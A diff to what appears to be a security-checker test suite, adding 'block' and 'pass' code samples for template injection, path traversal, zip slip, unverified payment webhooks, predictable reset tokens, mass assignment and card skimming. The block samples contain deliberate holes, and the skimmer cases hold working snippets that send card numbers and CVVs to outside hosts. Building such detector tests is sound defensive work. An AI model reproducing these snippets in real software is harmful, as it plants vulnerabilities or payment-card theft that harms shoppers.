@@ -166,6 +166,103 @@ const CASES: AppsecCase[] = [
       `def find(request):\n    name = request.args.get('name')\n    cur.execute("SELECT * FROM users WHERE name = %s", (name,))\n`,
     ],
   },
+  {
+    id: "ssti.request_var_in_template_source",
+    block: [
+      `@app.route('/hello')\ndef hello():\n    name = request.args.get('name')\n    return render_template_string('<h1>Hello ' + name + '</h1>')\n`,
+      `@app.post('/preview')\ndef preview():\n    body = request.form['body']\n    return render_template_string(f"<div class='mail'>{body}</div>")\n`,
+      `app.post('/card', (req, res) => {\n  const tpl = req.body.template;\n  res.send(pug.compile(tpl)({ user: req.user }));\n});\n`,
+      `router.get('/greet', (req, res) => {\n  let msg = req.query.msg;\n  res.send(nunjucks.renderString(msg, {}));\n});\n`,
+    ],
+    pass: [
+      // the input is a variable of a fixed template
+      `name = request.args.get('name')\nreturn render_template_string('<h1>Hello {{ name }}</h1>', name=name)\n`,
+      `const tpl = req.body.template;\nif (!TEMPLATES.has(tpl)) return res.sendStatus(400);\nres.render(tpl, { user: req.user });\n`,
+      `const fn = pug.compileFile('views/card.pug');\nconst who = req.query.who;\nres.send(fn({ who }));\n`,
+    ],
+  },
+  {
+    id: "path.request_var_joined_into_file_path",
+    block: [
+      `@app.route('/dl')\ndef dl():\n    f = request.args.get('f')\n    return send_file(os.path.join('/srv/files', f))\n`,
+      `def drop_upload(request):\n    name = request.POST.get('name')\n    os.remove(os.path.join(UPLOAD_DIR, name))\n    return JsonResponse({'ok': True})\n`,
+      `app.get('/file', (req, res) => {\n  const { name } = req.query;\n  res.sendFile(path.join(__dirname, 'uploads', name));\n});\n`,
+      `app.delete('/att', async (req, res) => {\n  const id = req.body.file;\n  await fs.promises.unlink(path.join(UPLOADS, id));\n});\n`,
+    ],
+    pass: [
+      `f = request.args.get('f')\nreturn send_from_directory('/srv/files', f)\n`,
+      `f = secure_filename(request.args.get('f'))\nreturn send_file(os.path.join('/srv/files', f))\n`,
+      `const { name } = req.query;\nconst p = path.resolve(UPLOADS, name);\nif (!p.startsWith(UPLOADS + path.sep)) return res.sendStatus(400);\nres.sendFile(path.join(UPLOADS, name));\n`,
+    ],
+  },
+  {
+    id: "archive.entry_name_joined_unchecked",
+    block: [
+      `for _, f := range r.File {\n\tpath := filepath.Join(dest, f.Name)\n\tout, _ := os.Create(path)\n\trc, _ := f.Open()\n\tio.Copy(out, rc)\n}\n`,
+      `TarArchiveEntry tarEntry;\nwhile ((tarEntry = tin.getNextTarEntry()) != null) {\n  Path out = Paths.get(outDir, tarEntry.getName());\n  Files.copy(tin, out);\n}\n`,
+      `zip.on('entry', (entry) => {\n  const target = path.join(outDir, entry.fileName);\n  zip.openReadStream(entry, (e, s) => s.pipe(fs.createWriteStream(target)));\n});\n`,
+    ],
+    pass: [
+      `path := filepath.Join(dest, f.Name)\nif !strings.HasPrefix(path, filepath.Clean(dest)+string(os.PathSeparator)) {\n\treturn fmt.Errorf("illegal path %s", f.Name)\n}\n`,
+      `File out = new File(destDir, entry.getName());\nif (!out.getCanonicalPath().startsWith(destDir.getCanonicalPath() + File.separator)) throw new IOException("zip slip");\n`,
+      `const target = path.join(outDir, path.basename(entry.fileName));\n`,
+    ],
+  },
+  {
+    id: "webhook.payment_event_unverified",
+    block: [
+      `app.post('/webhook', express.json(), async (req, res) => {\n  const event = req.body;\n  if (event.type === 'checkout.session.completed') await markPaid(event.data.object.metadata.orderId);\n  res.json({ received: true });\n});\n`,
+      `@app.post('/hooks/paypal')\ndef paypal_hook():\n    evt = request.get_json()\n    if evt['event_type'] == 'PAYMENT.CAPTURE.COMPLETED':\n        Order.mark_paid(evt['resource']['custom_id'])\n    return '', 200\n`,
+      `router.post('/shop/webhook', (req, res) => {\n  const ev = JSON.parse(req.body.toString());\n  if (ev.type === 'invoice.paid') activate(ev.data.object.customer);\n  res.end();\n});\n`,
+    ],
+    pass: [
+      `app.post('/webhook', express.raw({ type: 'application/json' }), async (req, res) => {\n  const event = stripe.webhooks.constructEvent(req.body, req.headers['stripe-signature'], secret);\n  if (event.type === 'checkout.session.completed') await markPaid(event.data.object.metadata.orderId);\n});\n`,
+      `@app.post('/hooks/paypal')\ndef paypal_hook():\n    if not verify_paypal_signature(request):\n        abort(400)\n    evt = request.get_json()\n    if evt['event_type'] == 'PAYMENT.CAPTURE.COMPLETED':\n        Order.mark_paid(evt['resource']['custom_id'])\n`,
+      `const event = req.body;\nif (event.type === 'customer.created') await crm.add(event.data.object.email);\n`,
+    ],
+  },
+  {
+    id: "token.predictable_reset_token",
+    block: [
+      `reset_token = hashlib.md5((user.email + str(time.time())).encode()).hexdigest()\nsend_reset_email(user, reset_token)\n`,
+      `const verifyToken = crypto.createHash('sha256').update(user.email + Date.now()).digest('hex');\n`,
+      `<?php\n$token = md5($email . time());\nmail($email, 'Reset', "https://shop.example/reset?t=$token");\n`,
+    ],
+    pass: [
+      `reset_token = secrets.token_urlsafe(32)\nstored = hashlib.sha256(reset_token.encode()).hexdigest()\n`,
+      `const verifyToken = crypto.createHash('sha256').update(user.email + crypto.randomBytes(32).toString('hex')).digest('hex');\n`,
+      `cache_key = hashlib.md5((user.email + str(time.time())).encode()).hexdigest()\n`,
+    ],
+  },
+  {
+    id: "massassign.user_serializer_all_fields",
+    block: [
+      `class UserSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n        fields = '__all__'\n`,
+      `class ProfileForm(forms.ModelForm):\n    class Meta:\n        model = get_user_model()\n        fields = "__all__"\n`,
+      `class AccountSerializer(ModelSerializer):\n    class Meta:\n        model = Account\n        fields = '__all__'\n`,
+    ],
+    pass: [
+      `class UserSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n        fields = ['id', 'username', 'email']\n`,
+      `class UserSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n        fields = '__all__'\n        read_only_fields = ['is_staff', 'is_superuser', 'groups']\n`,
+      `class ProductSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = Product\n        fields = '__all__'\n`,
+    ],
+  },
+  {
+    id: "skimmer.cc_underscore_fields_sent_out",
+    block: [
+      `$(document).on('click', '#pay', function () {\n  var d = { n: $('#payment_cc_number').val(), c: $('#payment_cc_cid').val() };\n  navigator.sendBeacon('https://cdn-pay-metrics.com/c', JSON.stringify(d));\n});\n`,
+      `document.forms[0].addEventListener('submit', () => {\n  const n = document.getElementById('authorizenet_cc_number').value;\n  fetch('https://stat-collector.net/p', { method: 'POST', body: n });\n});\n`,
+      `var i = new Image(); i.src = 'https://img-cdn-sync.com/p.gif?' + btoa(jQuery('input[name="cc_cvv2"]').val() + '|' + jQuery('#cc_number').val());\n`,
+    ],
+    pass: [
+      // posted to the shop's own relative endpoint
+      `var d = { n: $('#cc_number').val() };\n$.post('/checkout/pay', d);\n`,
+      // the processor's own API
+      `const n = document.getElementById('cc_number').value;\nfetch('https://api.braintreegateway.com/merchants/x/client_api/v1/payment_methods/credit_cards', { method: 'POST', body: n });\n`,
+      // field validation only, analytics sent without card data elsewhere in another file
+      `if (!luhn($('#cc_number').val())) { $('#cc_number').addClass('error'); }\n`,
+    ],
+  },
 ];
 
 runCases("appsec4", CASES);
